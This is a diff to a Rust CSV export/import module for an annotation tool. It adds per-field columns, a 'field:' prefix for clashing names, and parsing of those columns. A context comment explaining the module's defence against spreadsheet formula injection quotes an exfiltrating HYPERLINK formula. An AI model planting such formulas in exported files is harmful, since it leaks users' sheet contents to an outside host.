@@ -3,6 +3,9 @@
 //! as RFC 4180 says, in UTF-8 with a byte-order mark so that spreadsheets do not guess another
 //! encoding (pandas and readr skip it; base R needs `fileEncoding = "UTF-8-BOM"`). The last
 //! column, the annotation's id, groups the rows of one annotation and lets an import recognise it.
+//! Before it comes one column per field (see [`crate::core::fields`]), named for the field, the
+//! scheme's fields first: on reading, every column that is not one of [`HEADER`] is a field, and
+//! a field named like one of them is written `field:NAME`.
 //!
 //! Spreadsheets run a cell that begins with `=`, `+`, `-` or `@` (or a tab or CR) as a formula:
 //! a note `=HYPERLINK("http://…?"&A1, "x")` becomes a live link that sends the sheet's cells
@@ -82,7 +85,18 @@ pub fn write(material: &Material, options: Options, out: &mut dyn Write) -> io::
             guard(text).into_owned()
         }
     };
-    csv.write_record(HEADER).map_err(io_error)?;
+    // The header names every field before any row, so a first pass gathers them (cheap for
+    // documents held; the unread ones are read twice).
+    let seen = material.seen()?;
+    let fields = material.field_names(&seen);
+    // The fields go before `id`, which stays last.
+    let (id_column, before_id) = HEADER.split_last().expect("HEADER is not empty");
+    let header = before_id
+        .iter()
+        .map(|h| (*h).to_owned())
+        .chain(fields.iter().map(|f| field_column(f)))
+        .chain([(*id_column).to_owned()]);
+    csv.write_record(header).map_err(io_error)?;
     material.each_doc(&mut |doc| {
         for a in &doc.annotations {
             let untagged = [String::new()];
@@ -92,7 +106,10 @@ pub fn write(material: &Material, options: Options, out: &mut dyn Write) -> io::
                 &a.tags[..]
             };
             for tag in tags {
-                csv.write_record([
+                let values = fields
+                    .iter()
+                    .map(|f| cell(a.fields.get(*f).map_or("", String::as_str)));
+                let record = [
                     cell(&doc.rel_path),
                     cell(&doc.title),
                     a.start.to_string(),
@@ -105,15 +122,27 @@ pub fn write(material: &Material, options: Options, out: &mut dyn Write) -> io::
                     cell(&a.created),
                     cell(&a.modified),
                     cell(&a.modified_by),
-                    cell(&a.id),
-                ])
-                .map_err(io_error)?;
+                ];
+                let record = record.into_iter().chain(values).chain([cell(&a.id)]);
+                csv.write_record(record).map_err(io_error)?;
             }
         }
         Ok(())
     })?;
     csv.flush()
 }
+
+/// The column of the field `name`: its name, unless one of [`HEADER`] has it.
+fn field_column(name: &str) -> String {
+    if HEADER.contains(&name) || name.starts_with(FIELD_PREFIX) {
+        format!("{FIELD_PREFIX}{name}")
+    } else {
+        name.to_owned()
+    }
+}
+
+/// What a field's column begins with when its name alone would be taken for another column.
+const FIELD_PREFIX: &str = "field:";
 
 /// Why a file is not rows gloss can read.
 #[derive(Debug, thiserror::Error)]
@@ -157,6 +186,16 @@ pub fn read(data: &[u8]) -> Result<Batch, ReadError> {
     ] = <[&str; 8]>::try_from(&HEADER[5..])
         .expect("HEADER has 13 columns")
         .map(column);
+    // Every other column holds a field.
+    let field_columns: Vec<(usize, String)> = header
+        .iter()
+        .enumerate()
+        .filter(|(_, h)| !HEADER.contains(&h.trim()))
+        .map(|(i, h)| {
+            let h = h.trim();
+            (i, h.strip_prefix(FIELD_PREFIX).unwrap_or(h).to_owned())
+        })
+        .collect();
     let mut batch = Batch::default();
     // Annotations whose rows give different notes: which row was edited cannot be told.
     let mut disagree: Vec<usize> = Vec::new();
@@ -183,6 +222,11 @@ pub fn read(data: &[u8]) -> Result<Batch, ReadError> {
             created: some(created),
             modified: some(modified),
             modified_by: some(modified_by),
+            fields: field_columns
+                .iter()
+                .map(|(i, name)| (name.clone(), get(Some(*i))))
+                .filter(|(_, value)| !value.is_empty())
+                .collect(),
             origin: format!("line {line}"),
             ..Incoming::default()
         };
